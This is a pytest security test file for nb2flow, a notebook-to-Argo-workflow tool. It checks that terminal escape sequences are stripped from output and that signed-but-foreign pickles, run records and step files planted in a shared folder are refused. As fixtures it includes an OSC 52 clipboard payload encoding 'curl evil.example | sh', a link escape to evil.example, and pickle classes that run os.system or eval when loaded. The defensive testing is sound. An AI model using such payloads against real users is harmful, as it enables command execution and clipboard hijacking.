"""Safe to share: many users in one namespace and on one shared folder (every pod uid 1000).

What nb2flow prints from outside text cannot drive the terminal; nothing a neighbour plants in a shared
folder is loaded or executed as you (see also test_in_pod.py for other users' workflows and schedules,
test_argo_manifest.py and test_replay.py for credentials and the steps' token).
"""

import hashlib
import hmac
import json
import os
import pickle
import shutil
from pathlib import Path

import pytest

from helpers import emit_manifest, nb2flow, only_run_dir, pod_replay_or_skip
from nbutil import cell, write

from nb2flow.argo import dump

OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"


def test_terminal_commands_in_an_error_are_not_printed(tmp_path):
    write(tmp_path / "t.ipynb", cell("x = 1", "step:a"),
          cell(f"raise ValueError({OSC_CLIPBOARD + 'boom ' + OSC_LINK + ' bell' + chr(7)!r})", "step:b"))
    r = nb2flow("run", "t.ipynb", "--no-progress", cwd=tmp_path)
    assert r.returncode == 1
    for out in (r.stderr, nb2flow("status", only_run_dir(tmp_path).name, cwd=tmp_path).stdout):
        assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "ValueError: boom click me bell\\x07" in r.stderr


def test_terminal_commands_in_an_api_servers_message_are_not_printed(tmp_path):
    from kubeserver import FakeKube

    from helpers import run_in_process

    with FakeKube() as kube:
        config = kube.kubeconfig(tmp_path / "kubeconfig")
        kube.fault("GET", r"/workflows/x$", (500, "etcd " + OSC_CLIPBOARD + "down"), times=100)
        (tmp_path / ".config" / "nb2flow").mkdir(parents=True)
        (tmp_path / ".config" / "nb2flow" / "config.yaml").write_text("api_retry_for: 0.5\n")
        r = run_in_process(["logs", "x", "-n", "jhub"], cwd=tmp_path, env={"KUBECONFIG": config, "HOME": str(tmp_path),
                                                                         "KUBERNETES_SERVICE_HOST": None})
    assert r.returncode == 2
    assert "\x1b" not in r.stderr and "etcd down" in r.stderr


# ------------------------------------------------------------------ a neighbour on the team folder


class Payload:
    """A pickle that runs a command when it is loaded: what a neighbour plants."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def neighbour_signs(path: Path, key: bytes) -> None:
    """The neighbour runs nb2flow too, and signs what they plant with their own key (the format is public)."""
    mac = hmac.new(key, b"nb2flow-file-v1\0" + path.name.encode() + b"\0" + path.read_bytes(), hashlib.sha256).hexdigest()
    Path(str(path) + ".sig").write_text(mac)


@pytest.fixture
def team(tmp_path):
    """One team folder, two users with their own homes (their own keys); on JupyterHub every pod is uid 1000,
    so the neighbour can write wherever the victim can."""
    folder, victim, neighbour = tmp_path / "team", tmp_path / "home-ren", tmp_path / "home-dana"
    for d in (folder, victim, neighbour):
        d.mkdir()
    write(folder / "nb.ipynb", cell("import os", "setup"), cell("x = [1, 2, 3]", "step:a"),
          cell("if not os.path.exists('fixed'):\n    raise RuntimeError('not yet')\ny = len(x)", "step:b"),
          cell("print('sum', sum(x), y)", "step:c"))
    return folder, {"HOME": str(victim)}, bytes(32) + b"dana"  # any key that is not the victim's


@pytest.mark.slow  # CI runs it (pytest -m slow)
def test_a_planted_value_is_refused_on_resume_and_nothing_planted_runs(team):
    folder, victim, their_key = team
    r = nb2flow("run", "nb.ipynb", "-q", cwd=folder, env=victim)
    assert r.returncode == 1
    run_dir = only_run_dir(folder)
    marker = folder / "pwned"
    planted = run_dir / "values" / "a" / "x.pkl"
    planted.write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(planted, their_key)
    (folder / "fixed").touch()
    r = nb2flow("run", "--resume", run_dir.name, "-q", cwd=folder, env=victim)
    assert r.returncode == 1
    assert not marker.exists()
    assert f"{planted}: its signature was not made with your key: someone else wrote or changed it; refusing to load it" in r.stderr
    planted.with_name("x.pkl.sig").unlink()  # no signature at all
    r = nb2flow("run", "--resume", run_dir.name, "-q", cwd=folder, env=victim)
    assert not marker.exists() and f"{planted}: it has no signature beside it: nb2flow did not write it" in r.stderr


@pytest.mark.slow  # CI runs it (pytest -m slow)
def test_reuse_loads_no_planted_value_and_passes_over_a_forged_run(team):
    folder, victim, their_key = team
    (folder / "fixed").touch()
    assert nb2flow("run", "nb.ipynb", "-q", cwd=folder, env=victim).returncode == 0
    genuine = only_run_dir(folder)
    # a forged "newer" run: the neighbour's record (with a later start) and a value that runs a command
    fake = genuine.with_name(genuine.name[:-6] + "zzzzzz")
    shutil.copytree(genuine, fake)
    marker = folder / "pwned"
    forged = json.loads((fake / "run.json").read_text())
    forged["started"] += 100
    (fake / "run.json").write_text(json.dumps(forged))
    neighbour_signs(fake / "run.json", their_key)
    (fake / "values" / "a" / "x.pkl").write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(fake / "values" / "a" / "x.pkl", their_key)
    nb = json.loads((folder / "nb.ipynb").read_text())
    nb["cells"][3]["source"] = "print('total', sum(x), y)"  # the victim edits the last step and re-runs
    (folder / "nb.ipynb").write_text(json.dumps(nb))
    r = nb2flow("run", "nb.ipynb", "--reuse", "--no-progress", cwd=folder, env=victim)
    assert r.returncode == 0, r.stderr
    assert f"not reusing {fake.name}: its record is not one nb2flow wrote for you" in r.stderr
    assert f"reusing a (from {genuine.name}), b (from {genuine.name})" in r.stderr and not marker.exists()
    # the genuine run's own value replaced in place: reused, then refused when step c loads it
    planted = genuine / "values" / "a" / "x.pkl"
    planted.write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(planted, their_key)
    nb["cells"][3]["source"] = "print('grand total', sum(x), y)"
    (folder / "nb.ipynb").write_text(json.dumps(nb))
    r = nb2flow("run", "nb.ipynb", "--reuse", "-q", cwd=folder, env=victim)
    assert not marker.exists()
    assert r.returncode == 1 and "x.pkl: its signature was not made with your key" in r.stderr


def test_a_planted_run_record_cannot_be_resumed(team):
    folder, victim, their_key = team
    fake = folder / ".nb2flow" / "runs" / "nb-20990101-000000-abcdef"
    fake.mkdir(parents=True)
    record = {"run_id": fake.name, "notebook": str(folder / "theirs.ipynb"), "state": "failed", "steps": {}, "mode": "notebook"}
    (fake / "run.json").write_text(json.dumps(record))
    neighbour_signs(fake / "run.json", their_key)
    r = nb2flow("run", "--resume", fake.name, cwd=folder, env=victim)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().splitlines()[-1].startswith(f"nb2flow: {fake / 'run.json'}: its signature was not made with your key")


def test_the_run_folders_are_owner_only_whatever_the_umask(team):
    folder, victim, _ = team
    (folder / "fixed").touch()
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "nb2flow", "run", "nb.ipynb", "-q"], cwd=folder, env={**os.environ, **victim},
                       capture_output=True, text=True, preexec_fn=lambda: os.umask(0))  # everything world-writable by default
    assert r.returncode == 0, r.stderr
    for path in [folder / ".nb2flow", *(folder / ".nb2flow").rglob("*")]:
        if path.is_dir():
            assert path.stat().st_mode & 0o077 == 0, path
        elif path.suffix in (".pkl", ".sig", ".json", ".ipynb", ".py"):
            assert path.stat().st_mode & 0o077 == 0, path
    assert (Path(victim["HOME"]) / ".config" / "nb2flow" / "key").stat().st_mode & 0o777 == 0o600


# ------------------------------------------------------------------ in the pods (the pod-faithful replay)

@pytest.mark.slow  # CI runs it (pytest -m slow)
def test_credentials_reach_the_steps_through_the_runs_secret_and_the_steps_get_no_token(tmp_path):
    """Submitted to the test API server: the notebook pod's credentials are in a Secret owned by the Workflow,
    never in the Workflow; replayed as pods, the step reads them from the Secret, and its container has no
    service-account token (the executor's account is Argo's alone)."""
    import base64
    import copy

    from kubeserver import FakeKube
    from nbutil import cell, write
    from podreplay import REPLAY_TOKEN, kubelet_fs_group, run_pods

    from helpers import JH_CLAIM, jupyterhub_pod, run_in_process

    pod_replay_or_skip()
    db = "postgresql://analyst:hunter2-db@db.internal:5432/sales"
    pod = jupyterhub_pod()
    pod["spec"]["containers"][0]["env"].append({"name": "DATABASE_URL", "value": db})
    (tmp_path / "pod.json").write_text(json.dumps(pod))
    claim = tmp_path / "claim"
    work = claim / "work"
    work.mkdir(parents=True)
    (work / "nb2flow.yaml").write_text("workdir: /home/jovyan/work\nshared_workdir: true\n")
    token_file = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    write(work / "c.ipynb", cell("import os, json", "setup"), cell("url = os.environ['DATABASE_URL']", "step:read"),
          cell(f"json.dump({{'url': url, 'token': os.path.exists({token_file!r})}}, open('out.json', 'w'))", "step:write"))
    with FakeKube() as kube:
        config = kube.kubeconfig(tmp_path / "kubeconfig")
        r = run_in_process(["run", "c.ipynb", "--argo", "--pod-spec", str(tmp_path / "pod.json")], cwd=work,
                           env={"KUBECONFIG": config, "KUBERNETES_SERVICE_HOST": None, "HOME": str(tmp_path)})
        assert r.returncode == 0, r.stderr
        name = r.stdout.strip()
        workflow = kube.objects[("workflows", "jhub", name)]
        secret_name = workflow["metadata"]["annotations"]["nb2flow.io/env-secret"]
        secret = kube.objects[("secrets", "jhub", secret_name)]
    assert db not in json.dumps(workflow) and "hunter2" not in r.stderr + r.stdout
    assert secret["metadata"]["ownerReferences"] == [{"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "name": name,
                                                      "uid": workflow["metadata"]["uid"]}]
    values = {(secret_name, k): base64.b64decode(v).decode() for k, v in secret["data"].items()}
    kubelet_fs_group(claim, 100)
    results = run_pods(workflow, {JH_CLAIM: claim}, name=name, secrets=values)
    assert {t: r.exit_code for t, r in results.items()} == {"read": 0, "write": 0, "onExit": 0}, [r.log for r in results.values()]
    assert json.loads((work / "out.json").read_text()) == {"url": db, "token": False}
    # the replay does mount the token where a workflow lets Kubernetes do so: the check above can fail
    open_wf = copy.deepcopy(workflow)
    del open_wf["spec"]["automountServiceAccountToken"]
    (work / "out.json").unlink()
    results = run_pods(open_wf, {JH_CLAIM: claim}, name=name + "-open", secrets=values)
    assert results["write"].exit_code == 0, results["write"].log
    assert json.loads((work / "out.json").read_text())["token"] is True
    assert REPLAY_TOKEN not in results["write"].log


@pytest.mark.slow  # CI runs it (pytest -m slow)
@pytest.mark.parametrize("planted", ["runner", "step notebook", "value"])
def test_step_pods_refuse_files_a_neighbour_changed_on_the_volume(tmp_path, planted):
    """A schedule's step files stay on the shared volume for months: a neighbour (uid 1000 too) who changes the
    runner, a step notebook or a saved value gets nothing run — the pod checks the runner's SHA-256 pinned in the
    manifest and every other file's signature with the key from the run's Secret, and says which file."""
    import pickle

    from nbutil import cell, write
    from podreplay import kubelet_fs_group, manifest_from_yaml, run_pods

    from helpers import JH_CLAIM

    pod_replay_or_skip()
    claim = tmp_path / "claim"
    (claim / "work").mkdir(parents=True)
    marker = claim / "work" / "pwned"
    nb = write(claim / "work" / "s.ipynb", cell("x = 40", "step:a"), cell("print(x + 2)", "step:b"))
    manifest = manifest_from_yaml(dump(emit_manifest(Path(nb), {})))
    bundle = next((claim / "work" / ".nb2flow" / "bundles").iterdir())
    code = f"open({str(marker).replace(str(claim), '/home/jovyan')!r}, 'w').close()\n"
    if planted == "runner":
        runner = bundle / "nb2flow_step.py"
        runner.write_text(code + runner.read_text())
        refused = f"/home/jovyan/work/.nb2flow/bundles/{bundle.name}/nb2flow_step.py: not the step runner nb2flow wrote"
    elif planted == "step notebook":
        step_nb = bundle / "steps" / "b.ipynb"
        doc = json.loads(step_nb.read_text())
        doc["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": code, "outputs": [], "execution_count": None})
        step_nb.write_text(json.dumps(doc))
        refused = f"/home/jovyan/work/.nb2flow/bundles/{bundle.name}/steps/b.ipynb: its signature was not made with your key"
    kubelet_fs_group(claim, 100)
    if planted == "value":  # a's value, replaced between the two steps
        first = run_pods(manifest, {JH_CLAIM: claim}, name="wf-v", stop_after="a")
        assert first["a"].exit_code == 0
        value = claim / "work" / ".nb2flow" / "runs" / "wf-v" / "values" / "a" / "x.pkl"

        class Payload:
            def __reduce__(self):
                return (eval, (code,))

        value.write_bytes(pickle.dumps(Payload()))
        manifest["spec"]["templates"][0]["dag"]["tasks"] = [t for t in manifest["spec"]["templates"][0]["dag"]["tasks"] if t["name"] == "b"]
        for t in manifest["spec"]["templates"][0]["dag"]["tasks"]:
            t.pop("dependencies", None)
        refused = "/home/jovyan/work/.nb2flow/runs/wf-v/values/a/x.pkl: its signature was not made with your key"
    results = run_pods(manifest, {JH_CLAIM: claim}, name="wf-v")
    target = results["a" if planted == "runner" else "b"]
    assert target.exit_code != 0 and refused in target.log, target.log
    assert not marker.exists()
